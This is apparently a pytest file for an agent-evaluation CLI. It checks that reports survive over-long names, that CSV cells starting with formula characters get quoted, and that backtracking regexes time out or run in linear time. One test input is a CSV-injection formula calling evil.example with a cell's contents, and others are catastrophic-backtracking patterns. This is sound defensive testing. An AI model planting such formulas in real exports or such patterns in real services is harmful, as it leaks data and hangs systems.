"""`pi eval` against what suites and models may hold: names no file may carry, cells a
spreadsheet would run as formulas, answers that make a backtracking regex take hours."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path
from typing import Any

from cli_support import PI, QUIET, Ran, pi_inprocess
from pi_runtime.evals.report import write_report


def _suite(folder: Path, steps: list[dict[str, Any]], suite: str) -> Path:
    """FOLDER/suite.toml (`suite`, after its `agent` key) over a scripted agent."""
    (folder / "script.json").write_text(json.dumps({"steps": steps}), encoding="utf-8")
    (folder / "agent.toml").write_text('model = "scripted:script.json"\n', encoding="utf-8")
    path = folder / "suite.toml"
    path.write_text('agent = "agent.toml"\n' + suite, encoding="utf-8")
    return path


def _eval(folder: Path, *args: str) -> Ran:
    return pi_inprocess("eval", *args, cwd=folder, env={"PI_TRACE_DIR": str(folder / "traces")})


def _eval_apart(folder: Path) -> subprocess.CompletedProcess[str]:
    """`pi eval suite.toml --json` in a process of its own, given a minute: a search that
    backtracks for hours fails the test instead of holding it."""
    return subprocess.run(
        [str(PI), "eval", "suite.toml", "--json"],
        cwd=folder,
        env={**QUIET, "PATH": "/usr/bin:/bin", "PI_TRACE_DIR": str(folder / "traces")},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def _result(suite: str, **row: Any) -> dict[str, Any]:
    """A minimal `pi eval` result of one row."""
    summary = {"m": {"passed": 1, "total": 1, "success_rate": 1.0}}
    return {"suite": suite, "repeat": 1, "rows": [row], "summary": summary, "passed": True}


# --- file names -------------------------------------------------------------------------


def test_a_suite_name_longer_than_a_file_name_still_writes_the_report(tmp_path: Path) -> None:
    long_a, long_b = "a" * 300 + "-one", "a" * 300 + "-two"

    first = write_report(_result(long_a, case="c"), tmp_path / "out")
    second = write_report(_result(long_b, case="c"), tmp_path / "out")

    assert all(path.exists() and len(path.name) < 200 for path in [*first, *second])
    assert first[0].name.startswith("eval-aaaa")
    assert {p.name for p in first}.isdisjoint(p.name for p in second)


def test_pi_eval_writes_a_long_named_suites_report(tmp_path: Path) -> None:
    suite = 'name = "' + "a" * 300 + '"\n[[case]]\nname = "c"\nprompt = "hi"\n'
    _suite(tmp_path, [{"text": "done"}], suite)

    ran = _eval(tmp_path, "suite.toml", "--out", "out", "--json")

    assert ran.returncode == 0, ran.stderr
    assert all(Path(tmp_path, f).exists() for f in json.loads(ran.stdout)["files"])


def test_a_report_that_cannot_be_written_still_prints_the_results(tmp_path: Path) -> None:
    _suite(tmp_path, [{"text": "done"}], '[[case]]\nname = "c"\nprompt = "hi"\n')
    (tmp_path / "out" / "eval-suite.json").mkdir(parents=True)  # where the file must go

    ran = _eval(tmp_path, "suite.toml", "--out", "out", "--json")
    shown = _eval(tmp_path, "suite.toml", "--out", "out")

    assert ran.returncode == 1 and "cannot write the report" in ran.stderr
    assert json.loads(ran.stdout)["rows"][0]["passed"] is True
    assert shown.returncode == 1 and "1/1 passed" in shown.stdout
    assert "Traceback" not in ran.stderr + shown.stderr


# --- CSV cells --------------------------------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"ok")'  # a model may call any name
    steps = [{"tool_calls": [{"name": name, "arguments": {}}]}, {"text": "done"}]
    _suite(tmp_path, steps, '[[case]]\nname = "=1+2"\nprompt = "hi"\n')

    ran = _eval(tmp_path, "suite.toml", "--out", "out")

    assert ran.returncode == 0, ran.stderr
    with (tmp_path / "out" / "eval-suite.csv").open(encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert (row["case"], row["tool_calls"]) == ("'=1+2", "'" + name)
    assert row["steps"] == "2"


def test_csv_quotes_every_formula_start_and_leaves_numbers_alone(tmp_path: Path) -> None:
    cells = {f"k{i}": f"{start}x" for i, start in enumerate("=+-@\t\r")}
    result = _result("s", case="ok", negative=-1.5, **cells)

    csv_path = write_report(result, tmp_path)[1]

    with csv_path.open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert all(row[key] == "'" + value for key, value in cells.items())
    assert (row["case"], row["negative"]) == ("ok", "-1.5")


# --- expect_output ----------------------------------------------------------------------


def test_a_backtracking_expect_output_is_searched_in_linear_time(tmp_path: Path) -> None:
    # 40 `a`s and a `!`: `re` would backtrack for hours; the linear engine takes no time
    suite = '[[case]]\nname = "r"\nprompt = "hi"\nexpect_output = "^(a+)+$"\n'
    _suite(tmp_path, [{"text": "a" * 40 + "!"}], suite)

    done = _eval_apart(tmp_path)

    assert done.returncode == 1, done.stderr
    (row,) = json.loads(done.stdout)["rows"]
    assert "expect_output /^(a+)+$/ not found" in row["failures"][0]


def test_a_backtracking_pattern_with_lookaround_gives_up_and_fails_the_case(
    tmp_path: Path,
) -> None:
    # lookaround needs a backtracking engine: on 5,000 `a`s and a `!` this one would run
    # for hours; it is given up after `SEARCH_TIMEOUT_S` and the case fails saying why
    suite = (
        '[[case]]\nname = "slow"\nprompt = "hi"\nexpect_output = "(?=(a*)*b)"\n'
        '[[case]]\nname = "fine"\nprompt = "hi"\nexpect_output = "(?<=a)!"\n'
    )
    _suite(tmp_path, [{"text": "a" * 5000 + "!"}] * 2, suite)

    done = _eval_apart(tmp_path)

    assert done.returncode == 1, done.stderr
    rows = {row["case"]: row for row in json.loads(done.stdout)["rows"]}
    assert rows["fine"]["passed"], rows["fine"]["failures"]
    (failure,) = rows["slow"]["failures"]
    assert "the search gave up after 1 s on an answer of 5001 characters" in failure


def test_expect_output_keeps_the_meaning_re_gives_it(tmp_path: Path) -> None:
    patterns = {
        "dollar-before-final-newline": ("done$", True),
        "lookbehind": ("(?<=do)ne", True),
        "backreference": (r"(o)\\1", False),
        "case": ("(?i)DONE", True),
        "anchored": ("^one", False),
    }
    suite = "".join(
        f'[[case]]\nname = "{name}"\nprompt = "hi"\nexpect_output = "{pattern}"\n'
        for name, (pattern, _) in patterns.items()
    )
    _suite(tmp_path, [{"text": "done\n"}], suite)

    ran = _eval(tmp_path, "suite.toml", "--json")

    passed = {row["case"]: row["passed"] for row in json.loads(ran.stdout)["rows"]}
    assert passed == {name: expected for name, (_, expected) in patterns.items()}
